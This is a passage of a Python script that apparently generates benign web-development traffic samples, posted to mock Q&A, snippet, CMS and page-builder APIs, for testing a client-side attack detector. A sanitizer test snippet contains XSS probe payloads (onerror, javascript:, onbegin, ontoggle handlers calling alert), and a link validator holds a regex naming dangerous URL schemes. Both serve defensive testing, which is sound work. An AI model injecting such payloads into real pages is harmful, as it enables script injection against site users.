     "Old trick, is MutationObserver better nowadays?"),
    ("Popover API: run code before the popover opens", ["html", "popover-api"], "html",
     "<button popovertarget=\"menu\">Menu</button>\n<div id=\"menu\" popover>\n  <a href=\"/profile\">Profile</a>\n</div>\n<script>\n  const menu = document.getElementById('menu');\n  menu.addEventListener('beforetoggle', (e) => {\n    if (e.newState === 'open') loadMenuItems();\n  });\n</script>\n",
     "Is `beforetoggle` fired for `popover=manual` too?"),
    ("details element toggle event in React", ["reactjs", "html"], "jsx",
     "function Faq({ q, a }) {\n  const [open, setOpen] = useState(false);\n  return (\n    <details open={open} onToggle={(e) => setOpen(e.currentTarget.open)}>\n      <summary>{q}</summary>\n      <p>{a}</p>\n    </details>\n  );\n}\n",
     "onToggle fires twice in StrictMode, is that expected?"),
    ("content-visibility and lazy rendering", ["css", "performance"], "javascript",
     "const cards = document.querySelectorAll('.card');\ncards.forEach((card) => {\n  card.addEventListener('contentvisibilityautostatechange', (e) => {\n    e.skipped ? pauseVideo(card) : resumeVideo(card);\n  });\n});\n/* css: .card { content-visibility: auto; contain-intrinsic-size: auto 300px; } */\n",
     "Chrome fires the event but Safari does not."),
    ("SVG animate begin on click", ["svg"], "xml",
     "<svg viewBox=\"0 0 100 100\">\n  <circle id=\"dot\" cx=\"50\" cy=\"50\" r=\"10\">\n    <animate id=\"grow\" attributeName=\"r\" values=\"10;30;10\" dur=\"1s\" begin=\"dot.click\" />\n  </circle>\n</svg>\n<script>\n  document.getElementById('grow').addEventListener('beginEvent', () => console.log('started'));\n</script>\n",
     "beginEvent never fires in Firefox."),
    ("Unit tests for our HTML sanitizer", ["testing", "security"], "javascript",
     "import { sanitize } from '../src/sanitize';\n\ntest.each([\n  ['<img src=x onerror=alert(1)>', '<img src=\"x\">'],\n  ['<a href=\"javascript:alert(1)\">x</a>', '<a>x</a>'],\n  ['<svg><animate onbegin=alert(1) attributeName=x>', ''],\n  ['<details open ontoggle=alert(1)>', '<details open=\"\"></details>'],\n])('strips %s', (input, expected) => {\n  expect(sanitize(input)).toBe(expected);\n});\n",
     "Regression tests for the issues from the last pentest."),
    ("XSS prevention cheat sheet (internal)", ["security", "docs"], "markdown",
     "## Output encoding by context\n\n| Context | Example | Encode with |\n|---|---|---|\n| HTML body | `<div>USER</div>` | HTML entity encode |\n| Attribute | `<input value=\"USER\">` | attribute encode, always quote |\n| JS string | `<script>var x = 'USER'</script>` | `\\xHH` escape |\n| URL | `<a href=\"/p?q=USER\">` | `encodeURIComponent` |\n\nNever put untrusted data directly in a `<script>` block, an event handler such as `onclick`, or a `style` attribute.\n",
     ""),
    ("Content-Security-Policy with nonces in nginx", ["nginx", "csp"], "nginx",
     "map $request_id $csp_nonce { default $request_id; }\n\nadd_header Content-Security-Policy \"default-src 'self'; script-src 'self' 'nonce-$csp_nonce' 'strict-dynamic'; object-src 'none'; base-uri 'none'; frame-ancestors 'self'; report-to csp\" always;\nsub_filter '<script' '<script nonce=\"$csp_nonce\"';\nsub_filter_once off;\n",
     "sub_filter also rewrites script tags inside JSON, how do I avoid that?"),
    ("Validating the ?next= parameter in Express", ["node.js", "express", "security"], "javascript",
     "function safeNext(next) {\n  if (typeof next !== 'string') return '/';\n  // only same-site relative paths: no scheme, no //host, no backslash tricks\n  if (!next.startsWith('/') || next.startsWith('//') || next.startsWith('/\\\\')) return '/';\n  const u = new URL(next, 'https://app.example.com');\n  return u.origin === 'https://app.example.com' ? u.pathname + u.search : '/';\n}\n\napp.get('/login', (req, res) => res.render('login', { next: safeNext(req.query.next) }));\n",
     "Does this cover `/%09/host` style inputs?"),
    ("Avoiding prototype pollution in a deep merge", ["javascript", "security"], "javascript",
     "function merge(target, source) {\n  for (const key of Object.keys(source)) {\n    if (key === '__proto__' || key === 'constructor' || key === 'prototype') continue;\n    const v = source[key];\n    if (v && typeof v === 'object' && !Array.isArray(v)) {\n      target[key] = merge(target[key] ?? Object.create(null), v);\n    } else {\n      target[key] = v;\n    }\n  }\n  return target;\n}\n",
     "Is `Object.create(null)` enough, or should I freeze Object.prototype?"),
    ("jQuery JSONP with a fixed callback name", ["jquery", "jsonp"], "javascript",
     "$.ajax({\n  url: 'https://widgets.example.org/api/weather',\n  data: { city: 'Amsterdam' },\n  dataType: 'jsonp',\n  jsonpCallback: 'handleWeather',\n  cache: true\n}).done(function (data) {\n  $('#temp').text(data.temp + '\u00b0C');\n});\n",
     "With a fixed name the CDN can cache the response."),
    ("textContent vs innerHTML", ["javascript", "dom"], "javascript",
     "const input = document.querySelector('#name');\nconst out = document.querySelector('#greeting');\n\n// unsafe: out.innerHTML = 'Hello ' + input.value;\nout.textContent = `Hello ${input.value}`;\n",
     "Why is the commented line dangerous?"),
    ("Why is href=\"javascript:void(0)\" discouraged?", ["html", "accessibility"], "html",
     "<!-- legacy template -->\n<a href=\"javascript:void(0)\" onclick=\"toggleMenu(); return false;\" class=\"menu-toggle\">Menu</a>\n\n<!-- suggested -->\n<button type=\"button\" class=\"menu-toggle\" aria-expanded=\"false\" aria-controls=\"nav\">Menu</button>\n",
     "Our linter flags the first one with `no-script-url`."),
    ("Bookmarklet to copy the page title as Markdown", ["bookmarklet"], "javascript",
     "javascript:(function(){const t=document.title.replace(/[\\[\\]]/g,'');navigator.clipboard.writeText(`[${t}](${location.href})`);})();\n",
     "Paste into a bookmark's URL field."),
    ("Embedding the support widget", ["docs", "widget"], "html",
     "<!-- paste before </body> -->\n<script async src=\"https://widgets.example.org/embed.js\" data-site=\"acme\" data-position=\"bottom-right\"></script>\n<noscript>Enable JavaScript to chat with us, or email support@example.com.</noscript>\n",
     ""),
    ("Sandboxed preview iframe with srcdoc", ["html", "iframe"], "javascript",
     "const frame = document.createElement('iframe');\nframe.setAttribute('sandbox', 'allow-scripts');\nframe.srcdoc = `<!doctype html><html><head><style>${css}</style></head><body>${html}<script>${js}<\\/script></body></html>`;\ndocument.querySelector('#preview').replaceChildren(frame);\n",
     "This is our playground; the preview runs in an opaque origin."),
    ("Declarative shadow DOM not attaching", ["web-components"], "html",
     "<user-card>\n  <template shadowrootmode=\"open\">\n    <style>:host { display: block; border: 1px solid #ddd; }</style>\n    <slot name=\"name\"></slot>\n  </template>\n  <span slot=\"name\">Ana Silva</span>\n</user-card>\n",
     "Works in Chrome, not when inserted with innerHTML."),
    ("postMessage origin check", ["javascript", "security"], "javascript",
     "window.addEventListener('message', (event) => {\n  if (event.origin !== 'https://app.example.com') return;\n  const { type, payload } = event.data || {};\n  if (type === 'resize') iframe.style.height = `${Number(payload.height)}px`;\n});\n",
     ""),
    ("Custom element renders attribute as HTML", ["web-components"], "javascript",
     "customElements.define('x-badge', class extends HTMLElement {\n  connectedCallback() {\n    const label = this.getAttribute('label') ?? '';\n    this.attachShadow({ mode: 'open' }).innerHTML = `<span part=\"badge\"></span>`;\n    this.shadowRoot.querySelector('span').textContent = label;\n  }\n});\n",
     ""),
    ("Handlebars triple-stash escaping", ["handlebars"], "handlebars",
     "<h1>{{title}}</h1>\n<div class=\"body\">\n  {{{bodyHtml}}}\n</div>\n{{#each comments}}\n  <p>{{author}}: {{text}}</p>\n{{/each}}\n",
     "Is `{{{bodyHtml}}}` safe if bodyHtml comes from our Markdown renderer?"),
    ("Jinja autoescape and |safe", ["python", "jinja2"], "jinja",
     "{% autoescape true %}\n<p>Hello {{ user.name }}</p>\n<div>{{ post.html | safe }}</div>\n<a href=\"{{ url_for('profile', id=user.id) }}\">Profile</a>\n{% endautoescape %}\n",
     ""),
    ("DOM clobbering explained (blog draft)", ["security", "blog"], "markdown",
     "Named elements become properties of `document` and `window`:\n\n```html\n<form id=\"config\"><input name=\"apiUrl\" value=\"/v2\"></form>\n<script>\n  // config.apiUrl is now the <input>, not a string\n  console.log(window.config.apiUrl);\n</script>\n```\n\nMitigation: never read globals by id; use `Object.hasOwn` and explicit config objects.\n",
     ""),
    ("ESLint rules for a React codebase", ["eslint"], "json",
     "{\n  \"extends\": [\"eslint:recommended\", \"plugin:react/recommended\"],\n  \"rules\": {\n    \"no-script-url\": \"error\",\n    \"no-eval\": \"error\",\n    \"no-implied-eval\": \"error\",\n    \"react/no-danger\": \"warn\",\n    \"react/jsx-no-script-url\": \"error\",\n    \"react/jsx-no-target-blank\": [\"error\", { \"allowReferrer\": false }]\n  }\n}\n",
     ""),
    ("Service worker cache-first strategy", ["service-worker"], "javascript",
     "self.addEventListener('fetch', (event) => {\n  if (event.request.destination !== 'image') return;\n  event.respondWith(caches.open('img-v1').then(async (cache) => {\n    const hit = await cache.match(event.request);\n    return hit || fetch(event.request).then((res) => (cache.put(event.request, res.clone()), res));\n  }));\n});\n",
     ""),
    ("Allow-list for link protocols in Markdown renderer", ["markdown", "security"], "javascript",
     "const SAFE_PROTOCOL = /^(?:https?|mailto|tel):/i;\nconst UNSAFE = /^\\s*(?:javascript|data|vbscript):/i;\n\nmd.validateLink = (url) => {\n  const decoded = decodeURIComponent(url).replace(/[\\u0000-\\u001F\\u007F]/g, '');\n  return SAFE_PROTOCOL.test(decoded) && !UNSAFE.test(decoded);\n};\n",
     "Should I also strip HTML entities like `&colon;` before testing?"),
    ("Stack trace: Cannot read properties of undefined", ["reactjs", "debugging"], "text",
     "TypeError: Cannot read properties of undefined (reading 'map')\n    at OrderList (OrderList.jsx:12:18)\n    at renderWithHooks (react-dom.development.js:16305:18)\n    at mountIndeterminateComponent (react-dom.development.js:20074:13)\n    at HTMLUnknownElement.callCallback (react-dom.development.js:4164:14)\n",
     "orders comes from a fetch() in useEffect."),
    ("Svelte each block with keyed items", ["svelte"], "svelte",
     "<script>\n  export let todos = [];\n  const remove = (id) => (todos = todos.filter((t) => t.id !== id));\n</script>\n\n{#each todos as todo (todo.id)}\n  <li class:done={todo.done}>\n    {todo.text}\n    <button on:click={() => remove(todo.id)}>\u00d7</button>\n  </li>\n{/each}\n{@html marked(description)}\n",
     ""),
    ("Loading CSS @import order", ["css"], "css",
     "@import url(\"https://fonts.example.com/css2?family=Inter&display=swap\");\n@import \"./reset.css\" layer(reset);\n\n@layer reset, base;\nbody { font: 16px/1.5 Inter, sans-serif; }\n",
     "The @import after a rule is ignored silently."),
    ("Trusted Types policy for innerHTML", ["security", "trusted-types"], "javascript",
     "const policy = trustedTypes.createPolicy('app', {\n  createHTML: (s) => DOMPurify.sanitize(s, { RETURN_TRUSTED_TYPE: false }),\n  createScriptURL: (u) => {\n    const url = new URL(u, location.origin);\n    if (url.origin !== location.origin) throw new TypeError('blocked ' + url);\n    return url.href;\n  },\n});\nel.innerHTML = policy.createHTML(userHtml);\n",
     ""),
]

EXT = {"jsx": "jsx", "vue": "vue", "html": "html", "css": "css", "javascript": "js", "xml": "svg", "markdown": "md",
       "nginx": "conf", "json": "json", "text": "txt", "handlebars": "hbs", "jinja": "html.j2", "svelte": "svelte"}


def dev_post(idx, snip, carrier):
    r = rnd
    title, tags, lang, code, prose = snip
    fence = "```%s\n%s```" % (lang if lang not in ("text", "markdown") else "", code)
    md = (prose + "\n\n" if prose else "") + (code if lang == "markdown" else fence)
    if carrier == 0:
        ben("qa-question", "POST", "/api/v1/questions", api_headers("qa.example.net"),
            jdump({"title": title, "body_markdown": md, "tags": tags}), cat="dev-content")
    elif carrier == 1:
        body = form_body([("title", title), ("post-text", md), ("tagnames", " ".join(tags)), ("fkey", hexid(32)),
                          ("i1l", b62(22))])
        ben("qa-question", "POST", "/questions/ask/submit", browser_headers(
            "qa.example.net", ctype="application/x-www-form-urlencoded", origin="https://qa.example.net",
            referer="https://qa.example.net/questions/ask", cookie="acct=t=" + b62(32) + "&s=" + b62(32)), body, cat="dev-content")
    elif carrier == 2:
        slug = title.lower().replace(" ", "-").replace("?", "").replace("\"", "").replace(":", "")[:48]
        ben("docs-cms", "PUT", "/api/spaces/eng/pages/%s" % quote(slug, safe="-"), api_headers("docs.example.com"),
            jdump({"title": title, "format": "markdown", "body": "# " + title + "\n\n" + md, "labels": tags,
                   "version": {"number": r.randint(2, 40), "message": "update examples"}}), cat="dev-content")
    elif carrier == 3:
        ben("snippet-api", "POST", "/api/v1/snippets", api_headers("snippets.example.net"),
            jdump({"title": title, "language": lang, "code": code, "visibility": r.choice(["public", "internal"]),
                   "description": prose}), cat="dev-content")
    elif carrier == 4:
        pen = {"title": title, "html": "", "css": "", "js": "", "html_pre_processor": "none", "js_external": []}
        if lang in ("css",):
            pen["css"] = code
            pen["html"] = '<div class="widget">Widget</div>'
        elif lang in ("javascript", "jsx"):
            pen["js"] = code
            pen["html"] = '<div id="root"></div>'
        else:
            pen["html"] = code
        ben("playground", "POST", "/api/pens", api_headers("snippets.example.net", ua=r.choice(UAS)),
            jdump(pen), cat="dev-content")
    elif carrier == 5:
        fname = "example.%s" % EXT.get(lang, "txt")
        ben("gist", "POST", "/api/gists", api_headers("snippets.example.net", extra=[("X-Api-Version", "2022-11-28")]),
            jdump({"description": title, "public": True, "files": {fname: {"content": code}}}), cat="dev-content")
    else:
        ben("qa-answer", "POST", "/graphql", api_headers("qa.example.net"), jdump({
            "operationName": "PostAnswer",
            "query": "mutation PostAnswer($qid: ID!, $body: String!) { postAnswer(questionId: $qid, bodyMarkdown: $body) { id score } }",
            "variables": {"qid": str(r.randint(10 ** 6, 10 ** 7)), "body": md}}), cat="dev-content")


def gen_dev_content():
    n = 0
    for i, snip in enumerate(DEV_SNIPPETS):
        dev_post(i, snip, i % 7)
        n += 1
    for i, snip in enumerate(DEV_SNIPPETS[::1]):
        if n >= 66:
            break
        if i % 5 == 4:
            continue
        dev_post(i, snip, (i + 3) % 7)
        n += 1
    # page-builder "custom HTML" widgets and e-mail snippets where an admin pastes embed code
    embeds = ['<div class="calendar-inline-widget" data-url="https://calendar.example.com/acme/30min" style="min-width:320px;height:630px;"></div>\n'
              '<script type="text/javascript" src="https://calendar.example.com/assets/external/widget.js" async></script>',
              '<!-- Newsletter form -->\n<form action="https://mail.example.com/subscribe/post?u=' + hexid(20) + '" method="post" target="_blank">\n'
              '  <input type="email" name="EMAIL" placeholder="you@example.com" required>\n  <div style="position:absolute;left:-5000px" aria-hidden="true"><input type="text" name="b_' + hexid(10) + '" tabindex="-1" value=""></div>\n'
              '  <button type="submit">Subscribe</button>\n</form>']
    for i, e in enumerate(embeds):
        ben("page-builder-html", "PUT", "/api/pages/%d/blocks/%s" % (rnd.randint(1, 500), hexid(8)), api_headers("builder.example.com"),
            jdump({"type": "custom-html", "props": {"html": e, "fullWidth": bool(i)}}), cat="dev-content")


# =========================================================================== main

def main():
    mode = sys.argv[1] if len(sys.argv) > 1 else ""
    if mode == "attacks":
        gen_attacks()
    elif mode == "benign":
        gen_benign_content()
        gen_benign_traffic()
        gen_dev_content()
    else:
        sys.stderr.write("usage: corpus-clientside.py attacks|benign\n")
        sys.exit(2)
    for rec in OUT:
        sys.stdout.write(json.dumps(rec, ensure_ascii=False) + "\n")


if __name__ == "__main__":
    main()
